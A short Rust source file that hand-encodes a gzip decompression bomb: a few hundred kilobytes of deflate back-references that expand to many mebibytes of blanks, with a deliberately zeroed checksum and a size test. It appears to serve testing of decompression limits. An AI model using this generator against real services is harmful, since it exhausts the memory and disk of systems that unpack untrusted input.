//! A gzip bomb, made by hand: a few hundred kilobytes that unpack to very much.

/// Bits in the order in which deflate has them.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    /// The lowest bit first.
    fn push(&mut self, value: u32, count: u32) {
        for bit in 0..count {
            if self.used.is_multiple_of(8) {
                self.bytes.push(0);
            }
            let last = self.bytes.len() - 1;
            self.bytes[last] |= ((value >> bit & 1) as u8) << (self.used % 8);
            self.used += 1;
        }
    }

    /// A Huffman code: the highest bit first.
    fn push_code(&mut self, code: u32, count: u32) {
        (0..count).rev().for_each(|bit| self.push(code >> bit & 1, 1));
    }
}

/// `mebibytes` of blanks in gzip (RFC 1951, fixed codes): one blank, then copies of 258 bytes from one byte back.
pub fn bomb(mebibytes: usize) -> Vec<u8> {
    const COPIED: usize = 258;
    let mut bits = Bits::default();
    bits.push(1, 1);
    bits.push(1, 2);
    bits.push_code(0x30 + u32::from(b' '), 8);
    for _ in 0..(mebibytes << 20) / COPIED {
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    bits.push_code(0, 7);
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    bytes.extend(bits.bytes);
    // Checksum and length: nobody who reads so far is bounded.
    bytes.extend([0; 8]);
    bytes
}

#[test]
fn the_bomb_is_small() {
    let bytes = bomb(64);
    assert!(bytes.len() < 500_000, "{}", bytes.len());
}
